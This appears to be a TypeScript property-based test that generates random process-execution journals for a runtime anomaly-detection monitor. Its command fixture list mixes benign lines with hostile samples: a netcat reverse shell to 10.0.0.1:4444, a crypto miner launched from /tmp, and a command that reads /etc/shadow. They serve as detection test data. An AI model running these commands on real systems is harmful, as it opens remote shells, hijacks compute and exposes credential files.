import { ExecutionEvent, logsRequestToJson } from '@vedette/core';
import { shapeOf } from '@vedette/executions';
import fc from 'fast-check';

import type { JournalRecord } from '../../journal/journal.ts';
import { hostReport, sweepFinding, sweepReport } from '../../findings/testing/sweep-report.ts';
import { batchOf, commandOf, execution } from './records.ts';
import { sensorRequest } from '../../testing/sensor-request.ts';

const FROM_MS = Date.UTC(2026, 10, 1, 12);
const HOUR_MS = 3_600_000;

const COMMANDS = [
  'nginx -g daemon',
  'node /srv/app/worker.js --port 8080',
  'git fetch origin main',
  'git fetch origin main --prune',
  'tar czf /srv/backup/www.tar.gz /srv/www',
  'curl -fsS http://127.0.0.1:8000/healthz',
  'nc -e /bin/sh 10.0.0.1 4444',
  '/tmp/.x/miner --pool stratum+tcp://5.6.7.8:3333',
  'gzip -c /etc/shadow',
] as const;
const WORKLOADS = ['web', 'db', 'batch'] as const;
const ORGS = ['one', 'two'] as const;

const event = fc
  .record({
    command: fc.constantFrom(...COMMANDS),
    workload: fc.constantFrom(...WORKLOADS),
    host: fc.constantFrom('h1', 'h2', 'h3', 'h4'),
    kind: fc.constantFrom('exec', 'exec', 'exec', 'running', 'connect', 'exit', 'exec-failed'),
    pid: fc.integer({ min: 1, max: 6 }),
    image: fc.option(fc.constantFrom('app:1', 'app:2'), { nil: undefined }),
    agoMs: fc.nat({ max: 36 * HOUR_MS }),
  })
  .map(({ command, kind, image, agoMs, pid, ...more }) => (nowMs: number): ExecutionEvent => {
    const argv = command.split(' ');
    const [exe = ''] = argv;
    return ExecutionEvent.parse({
      ...{ ...more, kind, exe, argv, pid, ppid: pid - 1, uid: 0, comm: exe.slice(-15) },
      ...{ t: nowMs - agoMs, parent: 'bash', id: `p${pid}`, parentId: `p${pid - 1}` },
      ...(image !== undefined && { image }),
      ...(kind === 'connect' && {
        endpoint: { protocol: 'tcp', address: '93.184.216.34', port: pid < 3 ? 443 : 4444 },
      }),
    });
  });

const shape = fc.constantFrom(...COMMANDS).map((command) => {
  const argv = command.split(' ');
  const [exe = ''] = argv;
  return shapeOf({ exe, argv, comm: exe.slice(-15), parent: 'bash', uid: 0 }).key;
});
const workload = fc.constantFrom(...WORKLOADS);

const command = fc.oneof(
  fc.record({ do: fc.constantFrom('confirm-shape', 'forget-shape'), workload, shape }),
  fc.record({ do: fc.constant('end-learning'), workload }),
  fc.record({ do: fc.constant('roll-back'), workload, agoMs: fc.nat({ max: 72 * HOUR_MS }) }),
  fc.record({
    do: fc.constant('set-alerting'),
    workload,
    alerting: fc.constantFrom(null, { threshold: 0.6 }, { alertsPerDay: 2 }),
  }),
);

/** One entry, given the time of it. */
type Step = (nowMs: number) => JournalRecord;

const batch = fc
  .record({
    org: fc.constantFrom(...ORGS),
    id: fc.nat({ max: 40 }),
    events: fc.array(event, { minLength: 1, maxLength: 40 }),
    lost: fc.nat({ max: 2 }),
  })
  .map(({ org, id, events, lost }): Step => (receivedMs) => {
    const batchId = `b${id}`;
    const sent = events.map((of) => of(receivedMs));
    const request = logsRequestToJson(sensorRequest(batchId, sent, { lost }));
    const body = Buffer.from(request);
    return { kind: 'batch', org, receivedMs, batchId, format: 'otlp-json', body };
  });

const asked = fc
  .record({ org: fc.constantFrom(...ORGS), command })
  .map(({ org, command: of }): Step => (receivedMs) => {
    const by = 'ops';
    const base = { kind: 'command', org, receivedMs, by } as const;
    if (!('agoMs' in of)) return { ...base, command: of };
    const { workload: name, agoMs } = of;
    const toMs = Math.max(0, Math.floor(receivedMs - agoMs));
    return { ...base, command: { do: 'roll-back', workload: name, toMs } };
  });

const swept = fc
  .record({
    org: fc.constantFrom(...ORGS),
    hosts: fc.array(fc.constantFrom('h1', 'h2', 'h3'), { minLength: 1, maxLength: 3 }),
    disposition: fc.constantFrom('benign', 'ambiguous', 'slam-dunk'),
  })
  .map(({ org, hosts, disposition }): Step => (receivedMs) => {
    const findings = [sweepFinding({ disposition })];
    const report = sweepReport(...hosts.map((name) => hostReport({ name, findings })));
    return { kind: 'sweep', org, receivedMs, report: JSON.stringify(report) };
  });

/** Two workloads that are watched from the beginning, so that something is alerted about. */
const LEARNED: readonly JournalRecord[] = WORKLOADS.slice(0, 2).flatMap((name) => [
  batchOf(
    COMMANDS.slice(0, 3).flatMap((line) =>
      Array.from({ length: 9 }, () => execution(line, { t: FROM_MS, workload: name })),
    ),
    { id: `learned ${name}`, org: ORGS[0], receivedMs: FROM_MS },
  ),
  commandOf({ do: 'end-learning', workload: name }, FROM_MS, ORGS[0]),
]);

/** A journal of some days: batches, some of them again, sweeps, and what a person asked for. */
export const arbitraryJournal: fc.Arbitrary<readonly JournalRecord[]> = fc
  .array(
    fc.tuple(
      fc.oneof(
        { arbitrary: batch, weight: 8 },
        { arbitrary: asked, weight: 2 },
        { arbitrary: swept, weight: 1 },
      ),
      fc.oneof(
        { arbitrary: fc.nat({ max: 60_000 }), weight: 5 },
        { arbitrary: fc.nat({ max: 40 * HOUR_MS }), weight: 1 },
      ),
    ),
    { minLength: 1, maxLength: 40 },
  )
  .map((steps) => {
    let nowMs = FROM_MS;
    const later = steps.map(([step, laterMs]) => {
      nowMs += laterMs;
      return step(nowMs);
    });
    return [...LEARNED, ...later];
  });
